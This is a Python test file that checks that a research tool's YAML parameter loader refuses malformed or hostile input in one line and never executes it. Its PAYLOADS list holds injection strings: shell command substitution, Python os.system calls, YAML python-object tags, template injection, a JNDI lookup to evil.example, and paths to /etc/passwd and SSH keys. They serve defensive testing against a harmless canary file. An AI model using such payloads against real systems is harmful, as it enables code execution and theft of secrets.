"""Parameter files that are malformed or hostile are refused in one line; sound ones are read as they were written."""

from __future__ import annotations

import random
import resource
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from effort import times
from faults.conftest import Tally
from hypothesis import given, settings
from hypothesis import strategies as st
from stand_ins import SMOKE, husai, notebook, smoke_data, write_params
from test_bad_input import FILES, SETS, VALUES

from husai_lib.cycle.execution import execute
from husai_lib.evidence.rows.base import IMPORTED
from husai_lib.files import REPOSITORY, read_json
from husai_lib.params.catalogue import shifted_data_set_names
from husai_lib.params.cycle import CycleParams, load_cycle

Opener = Callable[[str], Tally]


def command(*arguments: Any) -> tuple[int, str, float]:
    """What the command line does in a process of its own: its code, what it says on stderr, its processor seconds."""
    began = processor_seconds()
    script = "import sys; from husai_lib.cli import main; main(sys.argv[1:])"
    given = [sys.executable, "-c", script, *map(str, arguments)]
    done = subprocess.run(given, cwd=REPOSITORY, capture_output=True, text=True, check=False)
    return done.returncode, done.stderr, processor_seconds() - began


def processor_seconds() -> float:
    """What all processes that ended have used, whatever else the machine does."""
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    return used.ru_utime + used.ru_stime


def is_one_line(code: int, said: str) -> bool:
    return code == 2 and said.startswith("husai: ") and said.count("\n") == 1 and said[:-1].isprintable()


def test_malformed_files_are_refused_by_the_command_itself(tmp_path: Path, tally: Opener) -> None:
    """The sentences themselves are held by test_bad_input.py."""
    row = tally("malformed parameter files and assignments, each by a process")
    contents: dict[str, bytes] = {name: content for name, (content, _) in FILES.items()}
    contents |= {name: yaml.safe_dump(make()).encode() for name, (make, _) in VALUES.items()}
    path = tmp_path / "p.yaml"
    cases: list[tuple[str, bytes, list[str]]] = [(name, content, []) for name, content in contents.items()]
    cases += [(name, SMOKE.read_bytes(), ["--set", text]) for name, (text, _) in SETS.items()]
    assert len(cases) >= 60
    for name, content, options in cases[:: times(1, 40)]:
        path.write_bytes(content)
        code, said, seconds = command("run", path, *options, "--evidence", tmp_path / "evidence")
        row.take(is_one_line(code, said), f"{name}: exit {code}, {said[:300]}")
        row.most("at most processor seconds", seconds)
    assert row.failed == []
    assert not (tmp_path / "evidence").exists()


# What is sound


NAMES = st.from_regex(r"[a-z][a-z0-9_]{0,20}", fullmatch=True)
SIZES = st.integers(1, 10**6)
RATES = st.floats(1e-9, 1e3)
NUMBERS = st.floats(-1e6, 1e6)
SHIFTED = shifted_data_set_names()


@st.composite
def parameter_files(draw: Callable[[st.SearchStrategy[Any]], Any]) -> dict[str, Any]:
    """The smoke cycle with whatever may stand in its place."""
    ids = draw(st.lists(st.integers(0, 2**40), min_size=7, max_size=10, unique=True))
    names = draw(st.lists(NAMES.filter(lambda name: not name.startswith(("baseline", "given"))), min_size=1, max_size=4,
                          unique=True))  # fmt: skip
    sets = draw(st.permutations(SHIFTED))
    k = draw(st.integers(1, 64))
    architectures = st.sampled_from(["topk", "standard", "batchtopk", "jumprelu", "gated"])
    return smoke_data(
        cycle=draw(NAMES.filter(lambda name: name != IMPORTED)),
        summary=draw(st.text(st.characters(codec="utf-8"), min_size=1)),
        seeds=ids[:3],
        texts={"training": sets[:2], "held_out": sets[2:3], "probing": sets[3:5], "ood": sets[4:6]},
        activations={
            "hook_name": f"blocks.{draw(st.integers(0, 1))}.hook_resid_post", "training_rows": draw(SIZES),
            "held_out_rows": draw(SIZES), "max_norm_ratio": draw(st.none() | st.floats(1.01, 1e4)),
            "context_tokens": draw(st.integers(2, 8192)), "skip_positions": draw(st.integers(0, 16)),
        },
        sae={
            "d_sae": k + draw(SIZES), "k": k, "batch_size": (batch := draw(SIZES)),
            "training_samples": batch + draw(SIZES), "learning_rate": draw(RATES), "aligned": draw(st.booleans()),
            "match_l0": draw(st.sampled_from(["k", None])),
        },
        conditions=[{"architecture": draw(architectures), "name": name} for name in names],
        consistency=None,
        scaling=None,
        selection={"mode": draw(st.sampled_from(["lcb", "mean"])), "min_saebench_delta": draw(st.none() | NUMBERS)},
        confirmation={"seeds": ids[3:]},
        stress={"random_models": draw(st.integers(1, 9)), "ood": draw(st.booleans())},
        gates={"basis": draw(st.sampled_from(["bound", "value"])), "max_ood_drop": draw(NUMBERS)},
        earlier=[],
    )  # fmt: skip


def stated(values: Any, in_file: Any) -> Any:
    """The part of the checked parameters that a file states."""
    if isinstance(in_file, dict):
        return {key: stated(values[key], value) for key, value in in_file.items()}
    if isinstance(in_file, list) and in_file and isinstance(in_file[0], dict):
        return [stated(one, value) for one, value in zip(values, in_file, strict=True)]
    return values


def test_generated_files_are_read_as_written_and_written_as_read(
    tmp_path_factory: pytest.TempPathFactory, tally: Opener
) -> None:
    row, path = tally("generated parameter files: read as written, written as read"), tmp_path_factory.mktemp("p")

    @settings(max_examples=times(2000, 40), deadline=None, database=None, derandomize=True)
    @given(parameter_files())
    def round_trip(data: dict[str, Any]) -> None:
        read = load_cycle(write_params(path / "written.yaml", data))
        values = read.model_dump(mode="json")
        again = load_cycle(write_params(path / "again.yaml", values))
        row.take(stated(values, data) == data and again == read, f"{data}")

    round_trip()
    assert row.failed == []
    assert row.count >= times(2000, 40)


# What is hostile

PAYLOADS = [
    "__import__('os').system('touch CANARY')", "\"; __import__('os').system('touch CANARY') #",
    "'); open('CANARY', 'w'); ('", "'''\nopen('CANARY', 'w')\n'''", "\\'; open('CANARY', 'w') #",
    "lambda: open('CANARY', 'w')", "exec(\"open('CANARY', 'w')\")", "\nimport os; os.system('touch CANARY')",
    "f\"{open('CANARY', 'w')}\"", "%%bash\ntouch CANARY", "!touch CANARY", "%run CANARY",
    "$(touch CANARY)", "`touch CANARY`", "; touch CANARY", "| touch CANARY", "&& touch CANARY #",
    "--upload-pack=touch CANARY",
    "-rf CANARY", "${IFS}touch${IFS}CANARY", "${jndi:ldap://evil.example/x}",
    "!!python/object/apply:os.system ['touch CANARY']", "!!python/name:os.system", "!!python/module:os",
    "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch CANARY']",
    "!!python/object/new:os.system [touch CANARY]",
    "&a [*a]", "*alias", "<<: *a", "? [complex, key]", "--- {second: document}", "%YAML 9.9", "@reserved", "\t- tab",
    "{{ cycler.__init__.__globals__.os.popen('touch CANARY') }}", "{% import os %}", "{0.__class__.__mro__}",
    "%(x)s %n %d",
    "../../../../etc/passwd", "/etc/passwd", "~/.ssh/id_rsa", "file:///etc/passwd", "\\\\evil.example\\share",
    "a\x00b", "\x1b[2J\x1b[31mred", "\u202egnp.txt", "\u2028cycle: other", "\r\ncycle: other", "\ufeff",
    "\x85cycle: other",
    "\U0001f600" * 500,
    "a" * 200_000, "9" * 10_000, "-" + "9" * 10_000, "0x" + "f" * 10_000, "1e999999", "-.inf", ".nan",
    "[" * 3000, "{a: " * 500,
    "a,b" * 20_000, "'" * 999, "\"" * 999, "\\" * 999, "<script>alert(1)</script>", "{{< env HOME >}}", "None",
    "[]", "{}", "",
]  # fmt: skip
"""Code of every language that could be meant, paths, control characters, and what is too long or too deep."""


def as_key(section: str) -> Callable[[str], dict[str, Any]]:
    def place(text: str) -> dict[str, Any]:
        data = smoke_data()
        (data[section] if section else data)[text] = 1
        return data

    return place


def as_value(section: str, key: str, *, in_list: bool = False) -> Callable[[str], dict[str, Any]]:
    def place(text: str) -> dict[str, Any]:
        data, value = smoke_data(), [text] if in_list else text
        of = data[section] if section else data
        (of[0] if isinstance(of, list) else of)[key] = value
        return data

    return place


PLACES: dict[str, Callable[[str], dict[str, Any]]] = {
    "a key": as_key(""), "a key of sae": as_key("sae"), "a key of gates": as_key("gates"),
    "cycle": as_value("", "cycle"), "seeds": as_value("", "seeds", in_list=True), "k": as_value("sae", "k"),
    "learning_rate": as_value("sae", "learning_rate"), "hook_name": as_value("activations", "hook_name"),
    "training": as_value("texts", "training", in_list=True), "earlier": as_value("", "earlier", in_list=True),
    "architecture": as_value("conditions", "architecture"), "condition": as_value("conditions", "name"),
    "sources": as_value("selection", "sources", in_list=True),
}  # fmt: skip
BARE = ("cycle: {}\n", "{}: 1\n", "sae: {{k: {}}}\n", "seeds:\n- {}\n")
"""Texts of files that hold a payload as it is, not quoted; none of them is a whole cycle."""


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A file that comes into being where a payload is executed."""
    return tmp_path / "canary"


def test_hostile_keys_and_values_are_refused_in_one_line_and_never_executed(
    tmp_path: Path, canary: Path, tally: Opener
) -> None:
    row, draw = tally("hostile keys and values of parameter files"), random.Random(5)
    payloads = [text.replace("CANARY", str(canary)) for text in PAYLOADS]
    contents = [
        (f"{place}: {text[:60]!r}", yaml.safe_dump(make(text)).encode())
        for place, make in PLACES.items() for text in payloads
        if (place, text) != ("earlier", "")  # written as [''], refused by its pattern as the others are
    ] + [(f"{text[:60]!r}, bare", bare.format(text).encode()) for bare in BARE for text in payloads]  # fmt: skip
    draw.shuffle(contents)
    path, evidence, own = tmp_path / "p.yaml", tmp_path / "evidence", times(25, 1)
    for number, (what, content) in enumerate(contents[: times(len(contents), 120)]):
        path.write_bytes(content)
        said = husai("run", path, "--dry-run", "--evidence", evidence)  # dry, so that what is accepted does not run
        row.take(is_one_line(said.code, said.err), f"{what}: exit {said.code}, {said.err[:300]}")
        if number < own:
            code, err, seconds = command("run", path, "--dry-run", "--evidence", evidence)
            row.most("at most processor seconds", seconds)
            row.take(is_one_line(code, err), f"{what}: exit {code}, {err[:300]}")
    for text in payloads[:: times(1, 10)]:
        for assignment in (f"sae.k={text}", f"{text}=1", f"cycle={text}"):
            said = husai("run", SMOKE, "--set", assignment, "--dry-run", "--evidence", evidence)
            row.take(is_one_line(said.code, said.err), f"--set {assignment[:60]!r}: exit {said.code}, {said.err[:300]}")
    assert row.failed == []
    assert not canary.exists()
    assert not evidence.exists()


def test_hostile_text_that_is_allowed_reaches_a_notebook_as_that_text(tmp_path: Path, canary: Path) -> None:
    """A summary may say anything; a notebook is given literals, whatever they hold."""
    texts = [text.replace("CANARY", str(canary)) for text in PAYLOADS if len(text) < 1000]
    params = load_cycle(write_params(tmp_path / "p.yaml", smoke_data(summary="".join(texts))))
    assert params.summary == "".join(texts)
    write = f"write_json(Path({str(tmp_path / 'got.json')!r}), texts)"
    body = f"from husai_lib.files import write_json\nfrom pathlib import Path\n{write}"
    execute(notebook(tmp_path / "in.ipynb", "texts = []", body), tmp_path / "out.ipynb", {"texts": texts})
    assert read_json(tmp_path / "got.json") == texts
    assert not canary.exists()
    assert CycleParams.model_validate(params.model_dump()) == params
